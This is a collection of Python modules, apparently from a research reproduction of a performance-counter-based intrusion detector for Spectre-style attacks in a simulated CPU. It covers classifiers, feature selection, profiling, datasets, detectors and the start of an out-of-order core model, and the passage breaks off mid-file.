import numpy as np

from repro.hid.classifiers.base import BaseClassifier


def _sigmoid(z):
    return 1.0 / (1.0 + np.exp(-np.clip(z, -35.0, 35.0)))


class MlpClassifier(BaseClassifier):
    """ReLU MLP with a logistic output unit."""

    name = "mlp"

    def __init__(self, hidden_layers=(32,), learning_rate=0.05,
                 momentum=0.9, epochs=200, batch_size=32, l2=1e-4, seed=0):
        super().__init__(seed=seed)
        self.hidden_layers = tuple(hidden_layers)
        self.learning_rate = learning_rate
        self.momentum = momentum
        self.epochs = epochs
        self.batch_size = batch_size
        self.l2 = l2
        self.weights_ = None
        self.biases_ = None

    # ------------------------------------------------------------------
    def _init_params(self, input_dim, rng):
        sizes = [input_dim, *self.hidden_layers, 1]
        weights, biases = [], []
        for fan_in, fan_out in zip(sizes[:-1], sizes[1:]):
            # He initialisation for the ReLU stacks.
            scale = np.sqrt(2.0 / fan_in)
            weights.append(rng.normal(scale=scale, size=(fan_in, fan_out)))
            biases.append(np.zeros(fan_out))
        return weights, biases

    def _forward(self, X, weights, biases):
        """Returns (activations per layer, output probabilities)."""
        activations = [X]
        a = X
        for w, b in zip(weights[:-1], biases[:-1]):
            a = np.maximum(a @ w + b, 0.0)
            activations.append(a)
        logits = a @ weights[-1] + biases[-1]
        return activations, _sigmoid(logits).ravel()

    def _fit(self, X, y):
        n, d = X.shape
        rng = np.random.default_rng(self.seed)
        weights, biases = self._init_params(d, rng)
        vel_w = [np.zeros_like(w) for w in weights]
        vel_b = [np.zeros_like(b) for b in biases]
        target = y.astype(np.float64)

        for _ in range(self.epochs):
            order = rng.permutation(n)
            for start in range(0, n, self.batch_size):
                batch = order[start:start + self.batch_size]
                xb, tb = X[batch], target[batch]
                activations, probs = self._forward(xb, weights, biases)

                # Backprop of binary cross-entropy through the sigmoid.
                delta = ((probs - tb) / len(batch))[:, None]
                grads_w = [None] * len(weights)
                grads_b = [None] * len(biases)
                for layer in range(len(weights) - 1, -1, -1):
                    a_prev = activations[layer]
                    grads_w[layer] = a_prev.T @ delta + self.l2 * weights[layer]
                    grads_b[layer] = delta.sum(axis=0)
                    if layer > 0:
                        delta = delta @ weights[layer].T
                        delta *= (activations[layer] > 0.0)

                # In-place momentum update: elementwise multiply then
                # subtract, the same float ops in the same order as
                # ``v = m*v - lr*g`` — bit-identical results, two fewer
                # array allocations per layer per batch.
                for layer in range(len(weights)):
                    vel_w[layer] *= self.momentum
                    vel_w[layer] -= self.learning_rate * grads_w[layer]
                    vel_b[layer] *= self.momentum
                    vel_b[layer] -= self.learning_rate * grads_b[layer]
                    weights[layer] += vel_w[layer]
                    biases[layer] += vel_b[layer]

        self.weights_ = weights
        self.biases_ = biases

    def _decision(self, X):
        _, probs = self._forward(X, self.weights_, self.biases_)
        return probs - 0.5

    def predict_proba(self, X):
        self._require_fitted()
        _, probs = self._forward(
            np.asarray(X, dtype=np.float64), self.weights_, self.biases_
        )
        return probs

    def clone(self):
        return type(self)(
            hidden_layers=self.hidden_layers,
            learning_rate=self.learning_rate,
            momentum=self.momentum,
            epochs=self.epochs,
            batch_size=self.batch_size,
            l2=self.l2,
            seed=self.seed,
        )
