"""Hardware-assisted intrusion detection: profiler, features, classifiers."""

from repro.hid.classifiers import (
    CLASSIFIER_FACTORIES,
    DeepNnClassifier,
    LinearSvmClassifier,
    LogisticRegressionClassifier,
    MlpClassifier,
    make_classifier,
)
from repro.hid.dataset import (
    ATTACK,
    BENIGN,
    Dataset,
    Sample,
    samples_to_dataset,
)
from repro.hid.detector import (
    HidDetector,
    OnlineHidDetector,
    average_accuracy,
    make_detector,
)
from repro.hid.features import (
    DEFAULT_FEATURES,
    ELIGIBLE_EVENTS,
    FEATURE_SIZES,
    RANKED_FEATURES,
    feature_set,
)
from repro.hid.metrics import DetectionMetrics, compute_metrics
from repro.hid.profiler import Profiler
from repro.hid.scaler import StandardScaler

__all__ = [
    "CLASSIFIER_FACTORIES",
    "DeepNnClassifier",
    "LinearSvmClassifier",
    "LogisticRegressionClassifier",
    "MlpClassifier",
    "make_classifier",
    "ATTACK",
    "BENIGN",
    "Dataset",
    "Sample",
    "samples_to_dataset",
    "HidDetector",
    "OnlineHidDetector",
    "average_accuracy",
    "make_detector",
    "DEFAULT_FEATURES",
    "ELIGIBLE_EVENTS",
    "FEATURE_SIZES",
    "RANKED_FEATURES",
    "feature_set",
    "DetectionMetrics",
    "compute_metrics",
    "Profiler",
    "StandardScaler",
]
