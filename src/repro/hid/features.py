"""HPC feature selection for the HID (paper Section III-A, Fig. 4).

The paper records 56 events offline, then evaluates detectors restricted
to 1, 2, 4, 8 or 16 events because real PMUs count only a few events
concurrently; it settles on 4.  The ranked sets below start from the
events the paper names as Spectre-affected ("total cache misses, total
cache accesses, total branch instructions, branch mispredictions, total
number of instructions" + cycles) and extend with progressively finer
microarchitectural signals.

``clflush``/``mfence`` instruction counts are deliberately *not*
eligible: PAPI exposes no such events on real hardware, and giving the
detector a flush counter would trivially reveal any flush+reload attack
— an unfaithful shortcut.
"""

from repro.cpu.pmu import EVENT_NAMES

#: Events a deployed HID may train on (excludes simulator-only oracles).
INELIGIBLE_EVENTS = frozenset({
    "clflush_instructions",
    "mfence_instructions",
    "fence_stall_cycles",
    # Wrong-path visibility is not a PAPI event either.
    "spec_instructions",
    "spec_loads",
    "spec_cache_fills",
    "squashed_instructions",
})

ELIGIBLE_EVENTS = tuple(
    name for name in EVENT_NAMES if name not in INELIGIBLE_EVENTS
)

#: Ranked feature list: prefix of length N = the paper's "feature size N".
RANKED_FEATURES = (
    # the four the paper converges on (miss count alone is ambiguous —
    # browsers miss heavily too — but pairing it with the access count
    # normalises it into a rate, hence the rank order)
    "total_cache_misses",
    "total_cache_accesses",
    "branch_mispredictions",
    "branch_instructions",
    # up to 8
    "instructions",
    "cycles",
    "l1d_misses",
    "return_mispredictions",
    # up to 16
    "l2_misses",
    "l1d_write_accesses",
    "cond_branch_mispredictions",
    "dtlb_misses",
    "l1i_misses",
    "load_instructions",
    "store_instructions",
    "mispredict_penalty_cycles",
)

FEATURE_SIZES = (16, 8, 4, 2, 1)

assert all(name in ELIGIBLE_EVENTS for name in RANKED_FEATURES)


def feature_set(size):
    """The event names used at a given feature size (paper Fig. 4)."""
    if not 1 <= size <= len(RANKED_FEATURES):
        raise ValueError(
            f"feature size must be in 1..{len(RANKED_FEATURES)}, got {size}"
        )
    return RANKED_FEATURES[:size]


#: The paper's working configuration ("we consider a feature size of 4").
DEFAULT_FEATURES = feature_set(4)
