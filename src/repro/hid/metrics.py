"""Detection metrics for HID evaluation."""

import dataclasses

import numpy as np


@dataclasses.dataclass(frozen=True)
class DetectionMetrics:
    """Binary confusion-matrix summary (attack = positive class)."""

    true_positives: int
    true_negatives: int
    false_positives: int
    false_negatives: int

    @property
    def total(self):
        return (self.true_positives + self.true_negatives
                + self.false_positives + self.false_negatives)

    @property
    def accuracy(self):
        if self.total == 0:
            return 0.0
        return (self.true_positives + self.true_negatives) / self.total

    @property
    def precision(self):
        denom = self.true_positives + self.false_positives
        return self.true_positives / denom if denom else 0.0

    @property
    def recall(self):
        """a.k.a. detection rate of the attack class."""
        denom = self.true_positives + self.false_negatives
        return self.true_positives / denom if denom else 0.0

    @property
    def false_positive_rate(self):
        denom = self.false_positives + self.true_negatives
        return self.false_positives / denom if denom else 0.0

    @property
    def f1(self):
        p, r = self.precision, self.recall
        return 2 * p * r / (p + r) if (p + r) else 0.0

    def describe(self):
        return (
            f"acc={self.accuracy:.3f} prec={self.precision:.3f} "
            f"rec={self.recall:.3f} f1={self.f1:.3f} "
            f"fpr={self.false_positive_rate:.3f}"
        )


def compute_metrics(y_true, y_pred):
    """Build :class:`DetectionMetrics` from label arrays."""
    y_true = np.asarray(y_true)
    y_pred = np.asarray(y_pred)
    return DetectionMetrics(
        true_positives=int(np.sum((y_true == 1) & (y_pred == 1))),
        true_negatives=int(np.sum((y_true == 0) & (y_pred == 0))),
        false_positives=int(np.sum((y_true == 0) & (y_pred == 1))),
        false_negatives=int(np.sum((y_true == 1) & (y_pred == 0))),
    )
