"""Trace persistence: CSV import/export for profiler samples & datasets.

Lets a campaign's HPC traces be collected once and re-analysed offline
(different feature sets, different detectors) — the workflow the paper
describes for its 56-event offline recording.
"""

import csv
import io

from repro.atomicio import atomic_write_text
from repro.cpu.pmu import EVENT_NAMES
from repro.errors import HidError
from repro.hid.dataset import Dataset, Sample

_META_COLUMNS = ("process_name", "label")


def save_samples(samples, path):
    """Write profiler samples to CSV (one row per window, 56 events).

    The write is atomic (temp + rename): a killed profiling run never
    leaves a truncated trace file.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(list(_META_COLUMNS) + list(EVENT_NAMES))
    for sample in samples:
        writer.writerow(
            [sample.process_name, sample.label]
            + [sample.events.get(name, 0) for name in EVENT_NAMES]
        )
    atomic_write_text(path, buffer.getvalue())
    return len(samples)


def samples_to_records(samples):
    """Profiler samples → plain JSON-serialisable dicts (checkpoints)."""
    return [
        {
            "process_name": sample.process_name,
            "label": int(sample.label),
            "events": {k: float(v) for k, v in sample.events.items()},
        }
        for sample in samples
    ]


def samples_from_records(records):
    """Inverse of :func:`samples_to_records`."""
    return [
        Sample(
            process_name=record["process_name"],
            label=int(record["label"]),
            events=dict(record["events"]),
        )
        for record in records
    ]


def load_samples(path):
    """Read samples back from CSV written by :func:`save_samples`."""
    samples = []
    with open(path, newline="") as handle:
        reader = csv.reader(handle)
        try:
            header = next(reader)
        except StopIteration:
            raise HidError(f"{path}: empty trace file")
        expected = list(_META_COLUMNS) + list(EVENT_NAMES)
        if header != expected:
            raise HidError(
                f"{path}: header mismatch (expected {len(expected)} "
                f"columns incl. the 56 PMU events, got {len(header)})"
            )
        for row in reader:
            if not row:
                continue
            if len(row) != len(expected):
                raise HidError(f"{path}: malformed row of {len(row)} cells")
            events = {
                name: float(value)
                for name, value in zip(EVENT_NAMES, row[2:])
            }
            samples.append(Sample(
                process_name=row[0],
                label=int(row[1]),
                events=events,
            ))
    return samples


def save_dataset(dataset, path):
    """Write a feature-selected Dataset to CSV (atomically)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["label"] + list(dataset.feature_names))
    for row, label in zip(dataset.X, dataset.y):
        writer.writerow([int(label)] + [float(v) for v in row])
    atomic_write_text(path, buffer.getvalue())
    return len(dataset)


def load_dataset(path):
    """Read a Dataset written by :func:`save_dataset`."""
    with open(path, newline="") as handle:
        reader = csv.reader(handle)
        try:
            header = next(reader)
        except StopIteration:
            raise HidError(f"{path}: empty dataset file")
        if not header or header[0] != "label":
            raise HidError(f"{path}: not a dataset file")
        feature_names = tuple(header[1:])
        X, y = [], []
        for row in reader:
            if not row:
                continue
            y.append(int(row[0]))
            X.append([float(v) for v in row[1:]])
    if not X:
        raise HidError(f"{path}: dataset has no rows")
    return Dataset(X, y, feature_names)
