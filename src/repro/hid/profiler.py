"""Runtime HPC profiler (the paper's PAPI-based monitoring tool).

Samples a process's PMU at fixed instruction quanta — the simulated
equivalent of timer-driven performance-counter reads.  Each window's
event *deltas* form one sample; the HID never sees anything else.
"""

import random

from repro.hid.dataset import ATTACK, BENIGN, Sample
from repro.obs.tracer import current_tracer

#: Event deltas one OS timer tick / interrupt contributes to a window.
#: Real PAPI sampling cannot exclude kernel activity; the paper's
#: accuracy wiggle across attempts comes from exactly this kind of
#: measurement noise.
_TICK_PROFILE = {
    "instructions": 180,
    "alu_instructions": 90,
    "load_instructions": 35,
    "store_instructions": 20,
    "branch_instructions": 45,
    "cond_branch_instructions": 30,
    "branches_taken": 20,
    "branch_mispredictions": 5,
    "cond_branch_mispredictions": 4,
    "cycles": 900,
    "total_cache_accesses": 70,
    "total_cache_hits": 58,
    "total_cache_misses": 12,
    "l1d_accesses": 55,
    "l1d_hits": 46,
    "l1d_misses": 9,
    "l1d_read_accesses": 35,
    "l1d_read_misses": 6,
    "l1d_write_accesses": 20,
    "l1d_write_misses": 3,
    "l1i_accesses": 15,
    "l1i_misses": 3,
    "l2_accesses": 12,
    "l2_hits": 8,
    "l2_misses": 4,
    "dtlb_accesses": 55,
    "dtlb_misses": 2,
    "itlb_accesses": 15,
    "itlb_misses": 1,
    "memory_stall_cycles": 500,
}


class Profiler:
    """Quantum-based PMU sampler.

    ``noise`` adds two realism effects to every window: multiplicative
    read jitter (relative σ) and, with probability ``tick_probability``,
    an additive OS-tick burst (:data:`_TICK_PROFILE` scaled randomly).
    ``noise=0`` gives bit-exact deterministic sampling for tests.
    """

    def __init__(self, quantum=2000, warmup_windows=2, noise=0.0,
                 tick_probability=0.15, seed=0):
        if quantum <= 0:
            raise ValueError("quantum must be positive")
        self.quantum = quantum
        self.warmup_windows = warmup_windows
        self.noise = noise
        self.tick_probability = tick_probability
        self._rng = random.Random(seed)

    def _measure(self, events):
        """Apply the measurement-noise model to raw PMU deltas."""
        if not self.noise:
            return events
        rng = self._rng
        out = {}
        for name, value in events.items():
            factor = max(0.0, rng.gauss(1.0, self.noise))
            out[name] = value * factor
        if rng.random() < self.tick_probability:
            scale = rng.uniform(0.5, 2.5)
            for name, burst in _TICK_PROFILE.items():
                out[name] = out.get(name, 0.0) + burst * scale
        return out

    def profile(self, process, num_samples, label=BENIGN, name=None):
        """Run *process* alone, collecting up to *num_samples* windows.

        Warm-up windows (cold caches, loader effects) are discarded.
        Returns fewer samples if the process terminates first — callers
        size workload iterations generously.
        """
        tracer = current_tracer()
        trace = (tracer.channel("hid", getattr(process.cpu, "trace_clk", 0))
                 if tracer.enabled else None)
        ts0 = trace.now() if trace is not None else 0
        samples = []
        windows_seen = 0
        snapshot = process.pmu.snapshot()
        while len(samples) < num_samples and process.alive:
            executed = process.step_quantum(self.quantum)
            if executed == 0:
                break
            delta = process.pmu.delta_since(snapshot)
            snapshot = process.pmu.snapshot()
            windows_seen += 1
            if windows_seen <= self.warmup_windows:
                continue
            if trace is not None:
                # Raw (pre-noise) integer deltas: the trace stays
                # byte-stable even when the noise model is armed.
                trace.event(
                    "hid.window", n=len(samples),
                    instructions=int(delta.get("instructions", 0)),
                    misses=int(delta.get("total_cache_misses", 0)),
                )
            samples.append(Sample(
                process_name=name or process.name,
                label=label,
                events=self._measure(delta),
            ))
        if trace is not None:
            trace.complete("hid.profile", ts0,
                           process=name or process.name,
                           label=int(label), windows=len(samples))
        return samples

    def profile_concurrent(self, system, labelled_processes, num_samples):
        """Round-robin the processes, sampling each quantum (realism mode).

        ``labelled_processes`` is ``[(process, label), ...]``.  Collection
        stops when every process has *num_samples* windows or has died.
        """
        labels = {id(process): label for process, label in labelled_processes}
        snapshots = {
            id(process): process.pmu.snapshot()
            for process, _ in labelled_processes
        }
        counts = {id(process): 0 for process, _ in labelled_processes}
        collected = []

        def on_quantum(process, executed):
            key = id(process)
            if key not in labels:
                return
            delta = process.pmu.delta_since(snapshots[key])
            snapshots[key] = process.pmu.snapshot()
            counts[key] += 1
            if counts[key] <= self.warmup_windows:
                return
            if counts[key] - self.warmup_windows <= num_samples:
                collected.append(Sample(
                    process_name=process.name,
                    label=labels[key],
                    events=self._measure(delta),
                ))

        processes = [process for process, _ in labelled_processes]
        needed = num_samples + self.warmup_windows
        max_quanta = needed * len(processes) * 4
        system.scheduler.quantum = self.quantum
        system.run(processes, max_quanta=max_quanta, on_quantum=on_quantum)
        current_tracer().event(
            "hid.profile_concurrent", "hid",
            processes=len(processes), windows=len(collected),
        )
        return collected


def benign_label():
    return BENIGN


def attack_label():
    return ATTACK
