"""Sample and dataset containers for HID training.

A *sample* is one profiler window: the per-quantum deltas of all 56
events for one process, labelled benign (0) or attack (1).  A *dataset*
is the numpy view over a chosen feature subset, with the paper's 70/30
train/test split.
"""

import dataclasses

import numpy as np

from repro.cpu.pmu import EVENT_NAMES
from repro.errors import HidError

BENIGN = 0
ATTACK = 1


@dataclasses.dataclass(frozen=True)
class Sample:
    """One profiling window."""

    process_name: str
    label: int
    events: dict  # all 56 event deltas

    def vector(self, feature_names):
        return np.array(
            [float(self.events[name]) for name in feature_names]
        )


class Dataset:
    """Feature matrix + labels over a fixed feature subset."""

    def __init__(self, X, y, feature_names):
        X = np.asarray(X, dtype=np.float64)
        y = np.asarray(y, dtype=np.int64)
        if X.ndim != 2 or X.shape[0] != y.shape[0]:
            raise HidError(
                f"inconsistent dataset shapes: X{X.shape} y{y.shape}"
            )
        if X.shape[1] != len(feature_names):
            raise HidError("feature count does not match feature names")
        self.X = X
        self.y = y
        self.feature_names = tuple(feature_names)

    @classmethod
    def from_samples(cls, samples, feature_names):
        if not samples:
            raise HidError("cannot build a dataset from zero samples")
        X = np.array([
            [float(sample.events[name]) for name in feature_names]
            for sample in samples
        ])
        y = np.array([sample.label for sample in samples])
        return cls(X, y, feature_names)

    def __len__(self):
        return self.X.shape[0]

    @property
    def num_features(self):
        return self.X.shape[1]

    def class_counts(self):
        return {
            BENIGN: int(np.sum(self.y == BENIGN)),
            ATTACK: int(np.sum(self.y == ATTACK)),
        }

    def split(self, train_fraction=0.7, seed=0):
        """Stratified train/test split (paper: 70/30)."""
        rng = np.random.default_rng(seed)
        train_idx = []
        test_idx = []
        for label in np.unique(self.y):
            indices = np.flatnonzero(self.y == label)
            rng.shuffle(indices)
            cut = int(round(train_fraction * len(indices)))
            train_idx.extend(indices[:cut])
            test_idx.extend(indices[cut:])
        train_idx = np.array(sorted(train_idx))
        test_idx = np.array(sorted(test_idx))
        train = Dataset(self.X[train_idx], self.y[train_idx],
                        self.feature_names)
        test = Dataset(self.X[test_idx], self.y[test_idx],
                       self.feature_names)
        return train, test

    def merged_with(self, other):
        """Concatenate two datasets (online-HID retraining)."""
        if other.feature_names != self.feature_names:
            raise HidError("cannot merge datasets with different features")
        return Dataset(
            np.vstack([self.X, other.X]),
            np.concatenate([self.y, other.y]),
            self.feature_names,
        )

    def subsample(self, max_rows, seed=0):
        """Random subset bound (keeps online retraining affordable)."""
        if len(self) <= max_rows:
            return self
        rng = np.random.default_rng(seed)
        idx = rng.choice(len(self), size=max_rows, replace=False)
        idx.sort()
        return Dataset(self.X[idx], self.y[idx], self.feature_names)


def samples_to_dataset(benign_samples, attack_samples, feature_names):
    """Convenience: relabel + combine the two sample streams."""
    rows = [
        Sample(s.process_name, BENIGN, s.events) for s in benign_samples
    ] + [
        Sample(s.process_name, ATTACK, s.events) for s in attack_samples
    ]
    return Dataset.from_samples(rows, feature_names)


def full_event_names():
    return EVENT_NAMES
