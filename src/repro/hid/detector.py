"""HID detectors: offline (static) and online (retraining).

The offline HID (paper: "a static type that does not retrain itself
during runtime", like CloudRadar) is trained once.  The online HID is
"retrained during runtime on newer traces": after every attack attempt
the windows observed during that attempt are added — with ground-truth
labels, modelling the defender's offline forensics — and the model is
refitted from scratch on the augmented dataset.
"""

import numpy as np

from repro.errors import HidError
from repro.hid.classifiers import make_classifier
from repro.hid.dataset import Dataset
from repro.hid.features import DEFAULT_FEATURES
from repro.hid.metrics import compute_metrics
from repro.hid.scaler import StandardScaler
from repro.obs.tracer import current_tracer


class HidDetector:
    """Scaler + classifier over a fixed HPC feature subset."""

    def __init__(self, classifier="mlp", features=DEFAULT_FEATURES, seed=0):
        if isinstance(classifier, str):
            classifier = make_classifier(classifier, seed=seed)
        self.classifier = classifier
        self.features = tuple(features)
        self.seed = seed
        self.scaler = StandardScaler()
        self._trained = False

    @property
    def name(self):
        return self.classifier.name

    # ---- training ----------------------------------------------------
    def fit(self, dataset):
        """Train on a dataset whose features match ``self.features``."""
        if dataset.feature_names != self.features:
            raise HidError(
                "dataset features do not match detector configuration"
            )
        X = self.scaler.fit_transform(dataset.X)
        self.classifier.fit(X, dataset.y)
        self._trained = True
        return self

    # ---- inference ------------------------------------------------------
    def predict(self, dataset):
        self._require_trained()
        return self.classifier.predict(self.scaler.transform(dataset.X))

    def predict_samples(self, samples):
        """Classify raw profiler samples; returns a label array."""
        dataset = Dataset.from_samples(samples, self.features)
        return self.predict(dataset)

    def metrics_on(self, dataset):
        self._require_trained()
        predictions = self.predict(dataset)
        return compute_metrics(dataset.y, predictions)

    def accuracy_on(self, dataset):
        accuracy = self.metrics_on(dataset).accuracy
        current_tracer().event(
            "hid.eval", "hid", model=self.name,
            accuracy=float(accuracy), windows=int(len(dataset.y)),
        )
        return accuracy

    def accuracy_on_samples(self, samples):
        dataset = Dataset.from_samples(samples, self.features)
        return self.accuracy_on(dataset)

    def _require_trained(self):
        if not self._trained:
            raise HidError("detector used before fit()")


class OnlineHidDetector(HidDetector):
    """Retrains on the augmented trace corpus after every attempt."""

    def __init__(self, classifier="mlp", features=DEFAULT_FEATURES, seed=0,
                 max_training_rows=6000):
        super().__init__(classifier=classifier, features=features, seed=seed)
        self.max_training_rows = max_training_rows
        self._corpus = None
        self._retrain_count = 0

    def fit(self, dataset):
        self._corpus = dataset
        return super().fit(dataset)

    def observe(self, dataset):
        """Fold newly profiled windows in and retrain (online learning)."""
        if self._corpus is None:
            raise HidError("online detector must be fit() before observe()")
        self._corpus = self._corpus.merged_with(dataset)
        self._retrain_count += 1
        bounded = self._corpus.subsample(
            self.max_training_rows, seed=self.seed + self._retrain_count
        )
        # Refit a fresh clone: sklearn-style warm restarts would anchor
        # the old decision boundary and understate the defender.
        self.classifier = self.classifier.clone()
        X = self.scaler.fit_transform(bounded.X)
        self.classifier.fit(X, bounded.y)
        return self

    @property
    def corpus_size(self):
        return 0 if self._corpus is None else len(self._corpus)

    @property
    def retrain_count(self):
        return self._retrain_count


def make_detector(classifier="mlp", features=DEFAULT_FEATURES, seed=0,
                  online=False):
    """Factory covering both detector types."""
    if online:
        return OnlineHidDetector(
            classifier=classifier, features=features, seed=seed
        )
    return HidDetector(classifier=classifier, features=features, seed=seed)


def average_accuracy(detectors, dataset):
    """Mean accuracy of several detectors on one dataset."""
    return float(np.mean([d.accuracy_on(dataset) for d in detectors]))
