"""Feature standardisation (from scratch; sklearn is unavailable offline)."""

import numpy as np

from repro.errors import HidError


class StandardScaler:
    """Zero-mean / unit-variance scaling fitted on training data."""

    def __init__(self):
        self.mean_ = None
        self.scale_ = None

    def fit(self, X):
        X = np.asarray(X, dtype=np.float64)
        self.mean_ = X.mean(axis=0)
        std = X.std(axis=0)
        # Constant features scale by 1 so they become exactly zero.
        std[std == 0.0] = 1.0
        self.scale_ = std
        return self

    def transform(self, X):
        if self.mean_ is None:
            raise HidError("scaler used before fit()")
        return (np.asarray(X, dtype=np.float64) - self.mean_) / self.scale_

    def fit_transform(self, X):
        return self.fit(X).transform(X)
