"""The ``CpuCore`` interface and the microarchitecture registry.

One simulated machine can be built around different CPU cores as long
as they honour a single contract — the :class:`CpuCore` interface.  The
kernel, profiler, PMU, tracer and attack layers all program against it,
so a new microarchitecture slots in behind ``System(uarch=...)`` without
touching any of them.

The contract (duck-typed; ``CpuCore`` documents it and registers the
concrete cores as virtual subclasses so ``isinstance`` works):

Attributes
    ``memory``, ``caches``, ``predictor``, ``config`` (a
    :class:`~repro.cpu.cpu.CpuConfig`), ``state`` (a
    :class:`~repro.cpu.state.CpuState`), ``dtlb``/``itlb``, ``pmu``,
    ``cycles`` (float virtual clock), ``shadow_stack`` (or ``None``),
    ``kernel_mode``, ``syscall_handler``, ``watchdog`` (duck-typed
    ``.charge(n)`` budget guard, or ``None``), plus the tracer bindings
    ``trace_clk``, ``_tr_cpu`` and ``_tr_kernel`` the kernel layer
    emits through.

Methods
    ``step()`` — retire one architectural instruction, ``False`` on
    halt; ``run(max_instructions=None)`` — retire until halt or the
    budget, returning the retired count, with every architectural
    observable (``state``, ``cycles``, PMU counters, caches, TLBs)
    synchronised on *every* exit path including faults; and
    ``reset_for_exec()`` — flush decode/translation/predictor return
    state after ``execve`` remaps the address space.

Speculation contract
    Wrong-path execution must never write architectural state (memory
    or committed registers) but must perturb the caches and TLBs and
    account ``spec_instructions`` / ``spec_loads`` /
    ``spec_cache_fills`` / ``squashed_instructions`` — that persistence
    is the paper's covert channel and the HID's feature signal, so a
    core that squashes cache fills would silently break every
    experiment downstream.

Execution engines
    *How* ``run()`` retires instructions is a core-private choice, not
    part of the contract: the ambient engine knob (``--engine`` /
    ``REPRO_ENGINE``, see :mod:`repro.cpu.engine`) selects between the
    in-order core's step loop, fast loop and superblock translator,
    and a core is free to ignore it — the OoO core does.  Whatever
    the engine, the observable machine must stay bit-identical to a
    ``step()``-driven run; engine choice never enters manifests or
    run ids.
"""

import abc

from repro.cpu.cpu import Cpu

#: The default microarchitecture: the in-order speculative core.
DEFAULT_UARCH = "inorder"

#: Registry of microarchitecture name -> factory.  A factory has the
#: same shape as ``Cpu(memory, caches=..., predictor=..., config=...)``
#: plus an optional ``params`` object of core-specific knobs.
UARCHS = {}


class CpuCore(abc.ABC):
    """Abstract marker for the per-microarchitecture CPU contract.

    Concrete cores are *registered*, not subclassed — the in-order
    :class:`~repro.cpu.cpu.Cpu` predates this interface and implements
    it unchanged, which is exactly what keeps the refactor bit-exact.
    """

    @abc.abstractmethod
    def step(self):
        """Retire one architectural instruction; ``False`` on halt."""

    @abc.abstractmethod
    def run(self, max_instructions=None):
        """Retire until halt or budget; returns the retired count."""

    @abc.abstractmethod
    def reset_for_exec(self):
        """Flush decode/translation state after ``execve``."""


def register_uarch(name, factory):
    """Register a core factory under a microarchitecture name."""
    if name in UARCHS:
        raise ValueError(f"microarchitecture {name!r} already registered")
    UARCHS[name] = factory
    CpuCore.register(factory)
    return factory


def make_core(uarch, memory, caches=None, predictor=None, config=None,
              params=None):
    """Instantiate the core for one microarchitecture name.

    ``params`` carries core-specific knobs (e.g.
    :class:`~repro.uarch.ooo.OooParams`); cores that take none reject a
    non-``None`` value so a typo'd knob cannot be dropped silently.
    """
    try:
        factory = UARCHS[uarch]
    except KeyError:
        raise ValueError(
            f"unknown microarchitecture {uarch!r} "
            f"(have {sorted(UARCHS)})"
        )
    if factory is Cpu:
        if params is not None:
            raise ValueError(
                "the in-order core takes no uarch params; "
                "use CpuConfig for its knobs"
            )
        return Cpu(memory, caches=caches, predictor=predictor,
                   config=config)
    return factory(memory, caches=caches, predictor=predictor,
                   config=config, params=params)


register_uarch("inorder", Cpu)
