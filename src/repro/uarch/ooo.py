"""The out-of-order (Tomasulo) core: same ISA contract, OoO timing.

Execution model
---------------
Instructions dispatch in program order into a reorder buffer and
reservation stations, execute as their operands become ready, and
commit strictly in order at ``commit_width`` per cycle.  The functional
(rename-file) state executes eagerly at dispatch — the register file
``state.regs`` always holds the newest speculative values, while
``arch_regs`` tracks the committed view the ROB writes back to — so the
architectural results are instruction-for-instruction identical to the
in-order core.  What differs is *time*: per-register ready times, ROB /
reservation-station / LSQ occupancy and the commit stream produce the
cycle counter, so load misses overlap with independent work, long
dividers hide behind ALU chains, and ``rdcycle`` (a serialising read,
as on real hardware) observes the drained machine.

Speculation
-----------
On a branch misprediction the wrong path executes in the ROB's *free
slots* — reorder-buffer depth, not a fixed window, bounds transient
execution, which is the microarchitectural knob Spectre exploits on
real OoO hardware (Kocher et al.).  Wrong-path uops allocate tail ROB
entries, rename into the register-status table, read through a store
buffer (their stores never reach memory), and are squashed by restoring
the checkpointed rename map taken at the branch.  Their instruction and
data fetches still fill the caches and TLBs — the covert channel — and
they account the same ``spec_*`` / ``squashed_instructions`` PMU events
the in-order core does, with a genuinely different signature (the
window breathes with ROB occupancy instead of being a constant).

Serialising instructions (``rdcycle``, ``mfence``, ``clflush``,
``syscall``, ``halt``) drain the ROB and retire immediately; the fast
quantum loop also drains at every exit path, so cross-quantum state is
always architectural and a run is bit-deterministic regardless of how
``run()`` calls slice it.
"""

import dataclasses

from repro.branch.predictor import BranchPredictor
from repro.cache.hierarchy import CacheHierarchy
from repro.cpu.cpu import (
    MASK32,
    CpuConfig,
    _alu_rri,
    _alu_rrr,
    _branch_taken,
    _ADD,
    _ADDI,
    _BEQ,
    _BGEU,
    _CALL,
    _CALLR,
    _CLFLUSH,
    _HALT,
    _JMP,
    _JMPR,
    _LB,
    _LI,
    _LW,
    _MFENCE,
    _MOD,
    _MOV,
    _MUL,
    _MULI,
    _NOP,
    _POP,
    _PUSH,
    _RDCYCLE,
    _RDINSTRET,
    _RET,
    _SB,
    _SLTI,
    _SLTU,
    _SW,
    _SYSCALL,
)
from repro.cpu.pmu import Pmu
from repro.cpu.shadow_stack import ShadowStack
from repro.cpu.state import CpuState
from repro.errors import (
    CpuFault,
    EncodingError,
    MemoryFault,
    PrivilegeFault,
    ShadowStackViolation,
)
from repro.isa.encoding import INSTRUCTION_SIZE, decode
from repro.mem.tlb import Tlb
from repro.obs.prof import current_profiler
from repro.obs.tracer import current_tracer
from time import perf_counter
from repro.uarch.core import register_uarch
from repro.uarch.structures import (
    LoadStoreQueue,
    RegisterStatus,
    ReorderBuffer,
    ReservationStations,
    RobEntry,
)


@dataclasses.dataclass(frozen=True)
class OooParams:
    """Out-of-order core knobs.

    ``rob_depth`` is the speculation budget: free ROB slots bound how
    far a mispredicted branch executes down the wrong path, the way
    ``CpuConfig.spec_window`` does for the in-order core.  The default
    matches that window so the two cores expose comparably-sized covert
    channels out of the box.
    """

    rob_depth: int = 48
    rs_alu: int = 8
    rs_mem: int = 6
    rs_branch: int = 4
    lsq_depth: int = 12
    commit_width: int = 4


class OooCore:
    """One simulated out-of-order hardware thread."""

    #: Same watchdog-charging contract as the in-order core.
    WATCHDOG_STRIDE = 1024

    def __init__(self, memory, caches=None, predictor=None, config=None,
                 params=None):
        self.memory = memory
        self.caches = caches or CacheHierarchy()
        self.predictor = predictor or BranchPredictor()
        self.config = config or CpuConfig()
        self.params = params or OooParams()
        self.state = CpuState()
        self.dtlb = Tlb()
        self.itlb = Tlb()
        self.pmu = Pmu(self)
        self.cycles = 0.0
        self.shadow_stack = (ShadowStack() if self.config.shadow_stack
